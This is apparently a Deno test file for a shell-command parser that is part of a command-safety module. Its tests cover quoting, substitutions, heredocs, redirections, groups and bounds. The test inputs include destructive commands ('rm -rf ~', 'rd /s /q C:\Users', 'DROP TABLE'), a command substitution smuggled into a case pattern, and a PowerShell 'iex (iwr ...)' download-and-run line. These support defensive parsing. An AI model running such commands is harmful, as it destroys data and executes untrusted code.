/** parseShell(): quoting, separators, substitutions, heredocs, redirections, groups, PowerShell subexpressions, problems and bounds. */
import assert from "node:assert/strict";
import {
  parseShell,
  ShellBoundsError,
  type ShellNode,
  type SimpleCommand,
} from "../../../../core/safety/command/parse_shell.ts";

function simple(node: ShellNode | undefined): SimpleCommand {
  assert.equal(node?.kind, "simple");
  return node as SimpleCommand;
}

function walk(node: ShellNode): string[][] {
  if (node.kind === "simple") return [node.words.map((w) => w.text)];
  if (node.kind === "group") return node.body.pipelines.flatMap((p) => p.elements.flatMap(walk));
  return walk(node.body);
}

function words(text: string): string[][] {
  return parseShell(text).script.pipelines.flatMap((p) => p.elements.flatMap(walk));
}

Deno.test("parseShell() removes quotes and escapes and joins line continuations", () => {
  assert.deepEqual(words(`'r'm -rf "a b" c\\ d \\\n  e $'\\x41\\n'`), [[
    "rm",
    "-rf",
    "a b",
    "c d",
    "e",
    "A\n",
  ]]);
  assert.deepEqual(words(`echo "in \\"dq\\" \\$x" 'sq \\n'`), [["echo", 'in "dq" $x', "sq \\n"]]);
});

Deno.test("parseShell() splits on every separator and keeps pipelines together", () => {
  const { script } = parseShell("a | b |& c; d && e || f & g\nh");
  assert.deepEqual(script.pipelines.map((p) => p.elements.length), [3, 1, 1, 1, 1, 1]);
  assert.equal(script.pipelines[3]!.background, true);
});

Deno.test("parseShell() keeps substitutions as text for re-parsing", () => {
  const w = simple(
    parseShell("echo $(a $(b)) `c` <(d) ${X:-$(e)} $((1+2))").script.pipelines[0]!.elements[0],
  ).words;
  const subs = w.flatMap((x) => x.segments).filter((s) => s.kind === "sub").map((s) =>
    s.kind === "sub" ? s.sub : null
  );
  assert.deepEqual(subs.map((s) => [s!.kind, s!.text]), [
    ["command", "a $(b)"],
    ["command", "c"],
    ["process", "d"],
    ["command", ": X:-$(e)"],
    ["arith", "1+2"],
  ]);
});

Deno.test("parseShell() attaches heredoc bodies and notes whether the delimiter was quoted", () => {
  const { script } = parseShell(
    "cat <<'EOF' > out\nline $(x)\nEOF\npsql <<-SQL\n\tDROP TABLE t;\n\tSQL\necho after",
  );
  const a = simple(script.pipelines[0]!.elements[0]);
  assert.equal(a.redirects[0]!.heredoc?.body, "line $(x)\n");
  assert.equal(a.redirects[0]!.heredoc?.quotedDelimiter, true);
  assert.equal(a.redirects[1]!.target?.text, "out");
  const b = simple(script.pipelines[1]!.elements[0]);
  assert.equal(b.redirects[0]!.heredoc?.body, "DROP TABLE t;\n");
  assert.equal(b.redirects[0]!.heredoc?.quotedDelimiter, false);
  assert.deepEqual(simple(script.pipelines[2]!.elements[0]).words.map((w) => w.text), [
    "echo",
    "after",
  ]);
});

Deno.test("parseShell() reads redirections with file descriptors", () => {
  const c = simple(
    parseShell("cmd 2>&1 >>log &>/dev/null <in 3<>f").script.pipelines[0]!.elements[0],
  );
  assert.deepEqual(c.redirects.map((r) => [r.fd, r.op, r.target?.text]), [
    ["2", ">&", "1"],
    [null, ">>", "log"],
    [null, "&>", "/dev/null"],
    [null, "<", "in"],
    ["3", "<>", "f"],
  ]);
});

Deno.test("parseShell() parses groups, functions, loops and case without losing commands", () => {
  assert.deepEqual(words("(a; b) | { c; }"), [["a"], ["b"], ["c"]]);
  const fn = parseShell("f() { g | g & }; f").script.pipelines[0]!.elements[0]!;
  assert.equal(fn.kind, "function");
  assert.deepEqual(words("for x in 1 2; do rm $x; done").slice(1), [["rm", "$x"], []]);
  // Patterns are kept, as a control header before their command: bash expands them.
  assert.deepEqual(
    words("case $a in x) one ;; y|z) two ;; esac").filter((w) => w.length > 0).slice(1),
    [["x"], ["one"], ["y", "z"], ["two"]],
  );
  const arm = parseShell("case $a in $(rm -rf ~)) one ;; esac").script.pipelines[1]!.elements;
  assert.equal(simple(arm[0]).control, true);
  assert.deepEqual(simple(arm[0]).words.map((w) => w.text), ["$(rm -rf ~)"]);
  assert.deepEqual(simple(arm[1]).words.map((w) => w.text), ["one"]);
  // `function f ( ... )` has a subshell body.
  const sub = parseShell("function f ( rm -rf ~ )").script.pipelines[0]!.elements[0]!;
  assert.equal(sub.kind === "function" && sub.body.kind, "group");
  assert.deepEqual(words("if a; then b; else c; fi"), [["a"], ["b"], ["c"], []]);
});

Deno.test("parseShell() keeps a PowerShell (...) argument as a command substitution", () => {
  const c = simple(parseShell("iex (iwr https://x.invalid)").script.pipelines[0]!.elements[0]);
  const seg = c.words[1]!.segments[0]!;
  assert.equal(seg.kind === "sub" && seg.sub.text, "iwr https://x.invalid");
});

Deno.test("parseShell() reads backslashes literally when asked (Windows paths)", () => {
  const posix = simple(parseShell("rd /s /q C:\\Users").script.pipelines[0]!.elements[0]);
  assert.equal(posix.words[3]!.text, "C:Users");
  const win = simple(
    parseShell("rd /s /q C:\\Users", { literalBackslash: true }).script.pipelines[0]!.elements[0],
  );
  assert.equal(win.words[3]!.text, "C:\\Users");
});

Deno.test("parseShell() lists what it could not parse instead of failing", () => {
  for (
    const [text, problem] of [
      ["echo 'open", "unterminated quote"],
      ['echo "open', "unterminated quote"],
      ["echo $(open", "unterminated command substitution"],
      ["cat <<EOF\nno end", "unterminated heredoc"],
      ["(a", "unbalanced group"],
      ["a )", "unbalanced parenthesis"],
    ] as const
  ) {
    assert.ok(parseShell(text).problems.includes(problem), `${text}: ${parseShell(text).problems}`);
  }
  assert.deepEqual(parseShell("echo fine").problems, [], "control");
});

Deno.test("parseShell() throws ShellBoundsError past its token and nesting bounds", () => {
  assert.throws(() => parseShell("a;".repeat(200), { maxTokens: 100 }), ShellBoundsError);
  assert.throws(() => parseShell("(".repeat(100) + ")".repeat(100)), ShellBoundsError);
  assert.throws(() => parseShell("echo " + "$(".repeat(100) + ")".repeat(100)), ShellBoundsError);
  assert.doesNotThrow(() => parseShell("(".repeat(10) + "a" + ")".repeat(10)), "control");
});
